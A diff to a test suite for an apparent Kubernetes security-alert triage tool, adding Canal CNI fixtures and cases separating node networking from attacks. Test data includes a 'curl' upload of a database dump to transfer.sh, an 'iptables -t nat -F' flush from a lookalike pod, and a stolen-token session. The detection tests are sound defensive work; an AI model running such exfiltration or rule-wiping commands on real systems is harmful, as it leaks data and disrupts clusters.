@@ -55,7 +55,27 @@ const sync = pod('erp-sync-30348660-rcprx', {
   statuses: [{ state: { terminated: { exitCode: 0, startedAt: T('11:00:03'), finishedAt: T('11:00:40') } } }],
 });
 
-const objects = [node(W1, '10.20.0.21'), node(W2, '10.20.0.22'), agentDep, agentRs, agent, lookalikeDep, lookalike, webDep, web, cartDep, cart, impostorJob, impostor, syncJob, sync];
+const canalDs = owner('DaemonSet', 'rke2-canal', 'kube-system');
+const canalPod = (n: string, suffix: string) =>
+  pod(`rke2-canal-${suffix}`, {
+    namespace: 'kube-system',
+    node: n,
+    hostNetwork: true,
+    owner: { kind: 'DaemonSet', name: 'rke2-canal' },
+    containers: [
+      { name: 'calico-node', image: 'rancher/hardened-calico:v3.28.2-build20241016', command: ['start_runit'], securityContext: { privileged: true } },
+      { name: 'kube-flannel', image: 'rancher/hardened-flannel:v0.25.7-build20241008', command: ['/opt/bin/flanneld', '--ip-masq', '--kube-subnet-mgr'], securityContext: { privileged: true } },
+    ],
+  });
+const canal1 = canalPod(W1, 'k2x9p');
+const canal2 = canalPod(W2, '7wq4n');
+// The Canal images in a Deployment of an application namespace: not the CNI.
+const fakeCanalDep = owner('Deployment', 'net-tools', 'tools');
+const fakeCanal = pod('net-tools-6d-abcde', { namespace: 'tools', node: W2, ip: '10.42.4.77', owner: { kind: 'Deployment', name: 'net-tools' }, containers: [{ name: 'calico-node', image: 'rancher/hardened-calico:v3.28.2-build20241016', command: ['start_runit'] }] });
+web.spec.serviceAccountName = 'storefront';
+agent.spec.serviceAccountName = 'cattle';
+
+const objects = [node(W1, '10.20.0.21'), node(W2, '10.20.0.22'), canalDs, canal1, canal2, fakeCanalDep, fakeCanal, agentDep, agentRs, agent, lookalikeDep, lookalike, webDep, web, cartDep, cart, impostorJob, impostor, syncJob, sync];
 
 const PERSON = { user: 'u-5xkq2mhz7b', groups: ['okta_group://platform-sre', 'system:authenticated', 'system:cattle:authenticated'] };
 function session(over: Partial<ExecSession>): ExecSession {
@@ -107,6 +127,18 @@ describe("people reaching the cluster through Rancher's impersonating proxy", ()
     const s = session({ user: 'system:serviceaccount:cattle-system:cattle', impersonatedUser: undefined, impersonatedGroups: undefined, sourceIps: ['10.42.4.17'] });
     expect(verdictWith([s], shellAlert('iptables-save -t nat')).label).toBe('genuine');
   });
+  it("the agent's token from a pod that runs as another service account is a token used away from its owner", () => {
+    const s = session({ user: 'system:serviceaccount:cattle-system:cattle', impersonatedUser: undefined, impersonatedGroups: undefined, sourceIps: ['10.42.4.17'] });
+    const v = verdictWith([s], shellAlert('id'));
+    expect(v).toMatchObject({ label: 'genuine', cause: 'attack' });
+    expect(v.reasons[0].message).toMatch(/runs as service account shop\/storefront/);
+  });
+  it("trap: the agent's own pod using its own token is no stolen token (still no engineer)", () => {
+    const s = session({ user: 'system:serviceaccount:cattle-system:cattle', impersonatedUser: undefined, impersonatedGroups: undefined, sourceIps: ['10.42.3.9'] });
+    const v = verdictWith([s], shellAlert('id'));
+    expect(v.label).toBe('genuine');
+    expect(v.reasons.map((r) => r.message).join(' ')).not.toMatch(/does not belong to/);
+  });
   it('trap: an upload of a database dump to a file-sharing service, typed in that very session', () => {
     const v = verdictWith([session({})], shellAlert('curl -sT /tmp/orders_full.sql.gz https://transfer.sh/orders_full.sql.gz', T('10:30:00')));
     expect(v).toMatchObject({ label: 'genuine', cause: 'attack' });
@@ -137,5 +169,28 @@ describe("RKE2 and K3s's own credential and static-pod paths", () => {
   });
   it('trap: reading a harmless file under /etc/rancher is not credential access', () => {
     expect(verdictWith([], hostAlert('cat /etc/rancher/rke2/config.yaml')).cause).not.toBe('attack');
+  });
+});
+
+describe("RKE2's default CNI, Canal: Calico's Felix and Flannel in one DaemonSet", () => {
+  it("Felix programming the node's rules", () => {
+    const v = verdictWith([], alert({ host: W1, process: { name: 'iptables-nft-restore', commandLine: '/usr/sbin/iptables-nft-restore --noflush --verbose --wait 10' }, ancestors: [{ name: 'calico-node', commandLine: '/usr/bin/calico-node -felix' }], container: { id: containerIdOf(canal1) } }));
+    expect(v).toMatchObject({ label: 'likely-false-positive', cause: 'node-networking' });
+  });
+  it('Flannel VXLAN (UDP 8472) between two nodes that both run Canal', () => {
+    const v = verdictWith([], alert({ title: 'SURICATA UDPv4 invalid checksum', network: { srcIp: '10.20.0.21', srcPort: 46012, dstIp: '10.20.0.22', dstPort: 8472, protocol: 'udp' } }));
+    expect(v).toMatchObject({ label: 'likely-false-positive', cause: 'node-networking' });
+  });
+  it('trap: the same binary from an interactive shell in the Canal container', () => {
+    const v = verdictWith([], alert({ host: W2, process: { name: 'iptables-save', commandLine: '/usr/sbin/iptables-save -t nat' }, ancestors: [{ name: 'sh', commandLine: '/bin/sh' }], container: { id: containerIdOf(canal2) } }));
+    expect(v.label).toBe('genuine');
+  });
+  it('trap: the Canal image in an application Deployment', () => {
+    const v = verdictWith([], alert({ host: W2, process: { name: 'iptables', commandLine: 'iptables -t nat -F' }, ancestors: [{ name: 'calico-node', commandLine: '/usr/bin/calico-node -felix' }], container: { id: containerIdOf(fakeCanal) } }));
+    expect(v.label).toBe('genuine');
+  });
+  it('trap: UDP 8472 from an address that is no node', () => {
+    const v = verdictWith([], alert({ title: 'SURICATA UDPv4 invalid checksum', network: { srcIp: '203.0.113.9', srcPort: 46012, dstIp: '10.20.0.22', dstPort: 8472, protocol: 'udp' } }));
+    expect(v.label).toBe('genuine');
   });
 });
